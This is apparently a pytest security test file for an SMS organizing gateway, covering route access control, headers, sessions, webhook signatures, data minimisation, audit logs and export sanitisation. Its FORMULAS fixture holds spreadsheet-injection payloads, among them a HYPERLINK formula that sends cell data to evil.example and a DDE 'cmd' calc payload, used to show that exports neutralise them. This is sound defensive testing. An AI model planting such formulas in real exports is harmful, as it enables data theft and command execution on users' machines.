"""The Security list of issue 6, each protection with a test that fails when it is removed."""
from __future__ import annotations

import json
import re
import zlib
from datetime import datetime, timedelta, timezone
from email.utils import parsedate_to_datetime

import pytest
from itsdangerous import TimestampSigner
from sqlalchemy import select

from gateway import create_app
from gateway.outbound import queues
from gateway.models import AuditEvent
from tests.conftest import PUBLIC_BASE
from tests.helpers import launch_to_zomba
from tests.test_webhooks import inbound, sign, sms

# The only routes of the gateway's app anyone may call without an account: the login form, the
# health check, static files and the API's own description. The signed webhooks are served by an
# app of their own that holds nothing else (tests/test_webhooks.py: WEBHOOK_ENDPOINTS).
OPEN = {"auth.login", "auth.logout", "auth.language", "health.healthz", "static", "pages.static", "api.openapi_json",
        "metrics.metrics"}  # /metrics asks for METRICS_TOKEN, not an account (tests/test_metrics.py)


def test_every_route_but_login_webhooks_and_healthz_needs_a_role(app, client) -> None:
    """A new route without role_required (console) or requires (API) fails here."""
    app.config["WTF_CSRF_ENABLED"] = False  # reach the role check, not the CSRF check, on POSTs
    checked = 0
    for rule in app.url_map.iter_rules():
        if rule.endpoint in OPEN:
            continue
        view = app.view_functions[rule.endpoint]
        assert getattr(view, "required_role", None) in ("viewer", "organizer", "admin"), rule.rule
        url = re.sub(r"<(?:int:)?[^>]+>", "1", rule.rule)
        for method in sorted((rule.methods or set()) - {"HEAD", "OPTIONS"}):
            response = client.open(url, method=method)
            anonymous_refused = response.status_code in (401, 403) or (
                response.status_code == 302 and "/login" in response.headers["Location"])
            assert anonymous_refused, (method, url, response.status_code)
            checked += 1
    assert checked >= 40  # the console and the API are all in the map


def test_open_routes_are_what_they_say(client) -> None:
    assert client.get("/healthz").status_code in (200, 503)
    assert client.post("/sms/twilio", data=sms("HELP")).status_code == 403  # open, but signed
    assert client.post("/sms/twilio/status", data={"MessageSid": "SM1", "MessageStatus": "sent"}).status_code == 403
    # Africa's Talking signs nothing: without its URL's secret token a callback is refused.
    assert client.post("/sms/africastalking/guess", data={"from": "+265991234567", "text": "HI"}).status_code == 403
    assert client.post("/sms/africastalking/guess/status", data={"id": "x", "status": "Success"}).status_code == 403
    # No phone configured here: nobody can post as one (signatures are checked in test_channel_hooks).
    assert client.post("/sms/android", json={"event": "sms:received"}).status_code in (403, 404)


def test_secure_headers_and_hsts_only_behind_tls(client) -> None:
    plain = client.get("/login")
    csp = plain.headers["Content-Security-Policy"]
    assert "default-src 'self'" in csp and "frame-ancestors 'none'" in csp and "script-src 'self'" in csp
    assert plain.headers["X-Frame-Options"] == "DENY" and "Strict-Transport-Security" not in plain.headers
    tls = client.get("/login", base_url="https://gateway.example.org")
    assert re.fullmatch(r"max-age=\d{7,}.*", tls.headers["Strict-Transport-Security"])
    assert tls.headers["X-Frame-Options"] == "DENY"


def test_sessions_expire_after_eight_hours(app, client, auth, monkeypatch: pytest.MonkeyPatch) -> None:
    auth.login("viewer")
    assert client.get("/").status_code == 200
    real = TimestampSigner.get_timestamp
    monkeypatch.setattr(TimestampSigner, "get_timestamp", lambda self: real(self) - 7 * 3600)
    auth.login("viewer")  # a session signed seven hours ago ...
    monkeypatch.undo()
    assert client.get("/").status_code == 200  # ... still works
    monkeypatch.setattr(TimestampSigner, "get_timestamp", lambda self: real(self) - 9 * 3600)
    auth.login("viewer")  # one signed nine hours ago ...
    monkeypatch.undo()
    response = client.get("/")
    assert response.status_code == 302 and "/login" in response.headers["Location"]  # ... is over
    assert app.permanent_session_lifetime == timedelta(hours=8)


def test_session_cookie_is_short_lived_lax_and_secure_behind_https(app, client, auth) -> None:
    cookie = auth.login("viewer").headers["Set-Cookie"]
    assert "HttpOnly" in cookie and "SameSite=Lax" in cookie and "Secure" in cookie  # PUBLIC_BASE_URL is https
    expires = parsedate_to_datetime(re.search(r"Expires=([^;]+)", cookie).group(1))  # type: ignore[union-attr]
    assert timedelta(hours=7) < expires - datetime.now(timezone.utc) <= timedelta(hours=8)


@pytest.mark.parametrize("override", [
    {"TESTING": True, "DEBUG": True}, {"VALIDATE_SIGNATURES": False}, {"TWILIO_VALIDATE_SIGNATURES": "0"},
    {"PUBLIC_BASE_URL": None}, {"WTF_CSRF_ENABLED": False}, {"PROXY_FIX_HOPS": 2},
])
def test_no_setting_turns_signature_checks_off_under_twilio(twilio_app, override: dict) -> None:  # type: ignore[type-arg]
    app = create_app({**twilio_app.config, **override})
    try:
        client = app.test_client()
        assert inbound(client, sms("HELP"), signature=None).status_code == 403
        assert inbound(client, sms("HELP"), signature="bm90IGEgc2lnbmF0dXJl").status_code == 403
        assert client.post("/sms/twilio/status", data={"MessageSid": "SM1", "MessageStatus": "sent"}).status_code == 403
    finally:
        app.extensions["gateway"].engine.dispose()


def test_twilio_refuses_to_start_without_a_token(tmp_path) -> None:  # type: ignore[no-untyped-def]
    from gateway.settings import ConfigError

    with pytest.raises(ConfigError, match="needs TWILIO_AUTH_TOKEN"):
        create_app({"SMS_PROVIDER": "twilio", "TWILIO_ACCOUNT_SID": "AC" + "0" * 32, "TWILIO_AUTH_TOKEN": None,
                    "TWILIO_FROM_NUMBER": "+15005550006", "DATABASE_URL": f"sqlite:///{tmp_path / 'g.db'}",
                    "INSTANCE_PATH": str(tmp_path), "NUMBERS_KEY": "k" * 40, "TESTING": True})


@pytest.mark.parametrize("hops", [0, 1])
def test_behind_a_proxy_the_signed_url_is_the_public_one(app, hops: int) -> None:
    """Twilio signs https://gateway.example.org/...; the proxy hands us http://10.0.0.5:8000/...."""
    proxied = create_app({**app.config, "PUBLIC_BASE_URL": None, "PROXY_FIX_HOPS": hops})
    try:
        params = sms("HELP")
        response = proxied.test_client().post(
            "/sms/twilio", data=params, base_url="http://10.0.0.5:8000",
            headers={"X-Twilio-Signature": sign(PUBLIC_BASE + "/sms/twilio", params), "X-Forwarded-Proto": "https",
                     "X-Forwarded-Host": "gateway.example.org", "X-Forwarded-Port": "443",
                     "X-Forwarded-For": "54.172.60.1"})
        assert response.status_code == (200 if hops else 403)  # without ProxyFix, the URL differs
    finally:
        proxied.extensions["gateway"].engine.dispose()


def test_public_base_url_wins_over_the_request_url(app, client) -> None:
    params = sms("HELP")
    response = client.post("/sms/twilio", data=params, base_url="http://10.0.0.5:8000",
                           headers={"X-Twilio-Signature": sign(PUBLIC_BASE + "/sms/twilio", params)})
    assert response.status_code == 200


def _redis_dump(redis) -> bytes:  # type: ignore[no-untyped-def]
    """Every value in the Redis database: hashes, lists, sets, sorted sets and strings."""
    out = []
    for key in redis.keys("*"):
        kind = redis.type(key)
        if kind == b"hash":
            out += [*redis.hgetall(key).keys(), *redis.hgetall(key).values()]
        elif kind == b"list":
            out += redis.lrange(key, 0, -1)
        elif kind == b"set":
            out += list(redis.smembers(key))
        elif kind == b"zset":
            out += redis.zrange(key, 0, -1)
        elif kind == b"string":
            out.append(redis.get(key))
        out.append(key)
    return b" ".join(out)


def test_jobs_are_json_and_carry_ids_only(stack_app) -> None:
    """What sits in Redis for a broadcast: JSON job data with outbox ids, no number and no text."""
    numbers = ["+265991230001", "+265991230002"]
    text = "Vigil at the council hall tonight at six"
    ids = launch_to_zomba(stack_app, numbers, text, "+15005550006")
    redis = stack_app.extensions["gateway"].redis
    assert queues.enqueue_ids(redis, ids) == 1
    [job] = queues.get_queue(redis).get_jobs()
    assert job.func_name == "gateway.outbound.jobs.send_batch" and list(job.args) == [ids]
    raw = redis.hget(job.key, "data")
    payload = json.loads(zlib.decompress(raw))  # JSON: a pickle would not load here
    assert payload[0] == "gateway.outbound.jobs.send_batch" and payload[2] == [ids]
    dump = _redis_dump(redis) + zlib.decompress(raw)
    for secret in (*numbers, *(n.lstrip("+") for n in numbers), text, "council"):
        assert secret.encode() not in dump


def test_status_changes_by_organizers_are_audited(app, client, auth) -> None:
    """Stopping or blocking a supporter, and a refused attempt to end an opt-out, are in the audit log."""
    from gateway.people import accounts
    from gateway.models import User

    inbound(client, sms("JOIN", sender="+265991234567"))
    inbound(client, sms("STOP", sender="+265991234567"))
    inbound(client, sms("JOIN", sender="+265881234567"))
    auth.user("organizer")
    svc = app.extensions["gateway"]
    with svc.sessions() as s, s.begin():
        token = accounts.new_api_token(s.scalars(select(User)).one())
    headers = {"Authorization": f"Bearer {token}"}
    listed = client.get("/api/v1/contacts", headers=headers).json["data"]
    by_status = {c["status"]: c["id"] for c in listed}
    assert client.patch(f"/api/v1/contacts/{by_status['stopped']}", json={"status": "active"},
                        headers=headers).status_code == 409
    assert client.patch(f"/api/v1/contacts/{by_status['active']}", json={"status": "blocked"},
                        headers=headers).status_code == 200
    with svc.sessions() as s:
        events = [(e.action, e.detail) for e in s.scalars(select(AuditEvent).where(
            AuditEvent.action.like("contact.status%")).order_by(AuditEvent.id))]
    assert events == [
        ("contact.status.refused", {"contact_id": by_status["stopped"], "old": "stopped", "new": "active"}),
        ("contact.status", {"contact_id": by_status["active"], "old": "active", "new": "blocked"})]



# -- H3 (part), M9: the database layer keeps values out of errors and off the disk ---------------

def test_database_errors_name_no_values(app) -> None:
    """An error from the database (logged, and kept by RQ) carries the SQL but not the values bound to it."""
    import sqlalchemy as sa

    words = "the nurse at Zomba clinic asked me for 5000 kwacha"
    engine = app.extensions["gateway"].engine
    insert = sa.text("INSERT INTO users (email, password_hash, role, active, failed_logins, created_at) "
                     "VALUES (:e, :p, 'viewer', true, 0, :t)")
    values = {"e": "x@example.org", "p": words, "t": datetime(2026, 1, 1)}
    with engine.begin() as conn:
        conn.execute(insert, values)
    with pytest.raises(sa.exc.IntegrityError) as caught, engine.begin() as conn:
        conn.execute(insert, values)  # the same email again
    assert "INSERT INTO users" in str(caught.value) and words not in str(caught.value)


def test_sqlite_overwrites_what_is_blanked(tmp_path) -> None:  # type: ignore[no-untyped-def]
    """Blanked report words leave no copy in the file's free space, even where SQLite's build default
    is secure_delete off (simulated here: the raw connection starts with it off)."""
    import sqlite3

    import sqlalchemy as sa

    from gateway.db import make_engine

    path = tmp_path / "gateway.db"

    def connect_with_secure_delete_off() -> sqlite3.Connection:
        conn = sqlite3.connect(str(path), timeout=30, check_same_thread=False)
        conn.execute("PRAGMA secure_delete=OFF")
        return conn

    def checkpoint() -> None:
        raw = engine.raw_connection()  # outside a transaction: a checkpoint cannot run inside one
        raw.driver_connection.execute("PRAGMA wal_checkpoint(TRUNCATE)")  # type: ignore[union-attr]
        raw.close()

    words = "Nurse at Zomba clinic asked for money. "
    engine = make_engine(f"sqlite:///{path}", creator=connect_with_secure_delete_off)
    try:
        with engine.begin() as conn:
            conn.execute(sa.text("CREATE TABLE m (id INTEGER PRIMARY KEY, body TEXT)"))
            conn.execute(sa.text("INSERT INTO m (body) VALUES (:b)"), [{"b": words * 3 + str(i)} for i in range(20)])
        checkpoint()
        assert words.encode() in path.read_bytes()
        with engine.begin() as conn:
            conn.execute(sa.text("UPDATE m SET body = NULL"))  # as an anonymous report's messages are blanked
        checkpoint()
    finally:
        engine.dispose()
    assert words.encode() not in path.read_bytes()


# -- L2: page links take only the filter's own query arguments ------------------------------------

def _many(app, n_contacts: int = 51, n_messages: int = 0) -> int:  # type: ignore[no-untyped-def]
    """Enough supporters (and messages of the first) for a second page; the first contact's id."""
    from gateway.people.contacts import new_contact
    from gateway.models import Message, utcnow

    with app.extensions["gateway"].sessions() as s, s.begin():
        contacts = [new_contact(s, f"+26599{i:07d}", place="Zomba") for i in range(n_contacts)]
        s.add_all(contacts)
        s.flush()
        s.add_all(Message(direction="in", contact_id=contacts[0].id, channel="console", body=f"text {i}",
                          status="handled", created_at=utcnow()) for i in range(n_messages))
        return contacts[0].id


@pytest.mark.parametrize("query", [
    "_method=POST", "_external=1", "_anchor=x", "_scheme=javascript", "endpoint=x", "values=1", "place=Zomba&page=1",
])
def test_page_links_ignore_url_for_arguments(app, client, auth, query: str) -> None:
    """`?_method=X` was a 500, `?_external=1` or `?_anchor=` rewrote the links; now only filters are kept."""
    _many(app)
    auth.login("viewer")
    response = client.get(f"/supporters?{query}")
    assert response.status_code == 200, query
    link = re.search(r'href="([^"]+)" rel="next"', response.get_data(as_text=True)).group(1)  # type: ignore[union-attr]
    assert link.startswith("/supporters?") and "#" not in link and "//" not in link, link
    assert "page=2" in link and ("place=Zomba" in link) == ("place=Zomba" in query), link


def test_a_page_argument_named_like_the_route_argument_is_not_a_500(app, client, auth) -> None:
    contact_id = _many(app, n_contacts=2, n_messages=51)
    auth.login("viewer")
    response = client.get(f"/supporters/{contact_id}?contact_id=999&_anchor=x")
    assert response.status_code == 200
    link = re.search(r'href="([^"]+)" rel="next"', response.get_data(as_text=True)).group(1)  # type: ignore[union-attr]
    assert link.startswith(f"/supporters/{contact_id}?") and "999" not in link and "#" not in link, link


# -- L6: no export lets a cell run as a spreadsheet formula -----------------------------------------

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
            "\tTAB", "\rCR", "\uff1dHYPERLINK(1)"]


def _cells(text: str) -> list[str]:
    import csv
    import io

    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def test_no_export_cell_starts_a_formula(app, client, runner, auth) -> None:
    """Tags, names, places and report texts (imports and the API write them) reach four exports."""
    from gateway.people.contacts import add_tags, new_contact
    from gateway.models import Report

    with app.extensions["gateway"].sessions() as s, s.begin():
        contact = new_contact(s, "+265991234567", name=FORMULAS[3], place=FORMULAS[1], language="en")
        s.add(contact)
        add_tags(s, contact, FORMULAS)
        s.add_all(Report(ref=f"R{i}", service=text[:40], service_detail=text, place=text, details=text, language="en",
                         delivered="no", country="MW", created_at=datetime(2026, 3, 4)) for i, text in enumerate(FORMULAS))
    auth.login("organizer")
    exports = {
        "console supporters": client.get("/supporters/export").get_data(as_text=True),
        "console reports": client.get("/reports/export").get_data(as_text=True),
        "cli contacts": runner.invoke(args=["contacts", "export"]).output,
        "cli reports": runner.invoke(args=["reports", "export"]).output,
    }
    for name, text in exports.items():
        cells = _cells(text)
        assert "'@sum(1)" in text.lower() or "reports" in name, (name, text)
        risky = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "\uff1d") and c != "+265991234567"]
        assert risky == [], (name, risky)

@pytest.mark.parametrize("message", [
    "Twilio send: HTTP 400 code 21211: The 'To' number +265991000001 is not a valid phone number.",
    "Africa's Talking send: Invalid phone number: 265991000001",
    "phone-a send: refused: {'message': 'bad number 0991 000 001'}",
    "Twilio list: could not connect: Max retries exceeded with url: /Messages.json?To=%2B265991000001&PageSize=1000",
])
def test_provider_error_texts_carry_no_full_number(message: str) -> None:
    """M8: whatever a provider's answer echoes, the error that is logged and kept by RQ masks the number."""
    from gateway.channels.base import ProviderError

    text = str(ProviderError(message, retryable=True))
    assert not any(n in text.replace(" ", "") for n in ("265991000001", "0991000001")), text
    assert "*" in text  # masked, not dropped: the country and operator prefix stay for the operator
    if "code 21211" in message:
        assert "HTTP 400 code 21211" in text  # status and error codes are not numbers
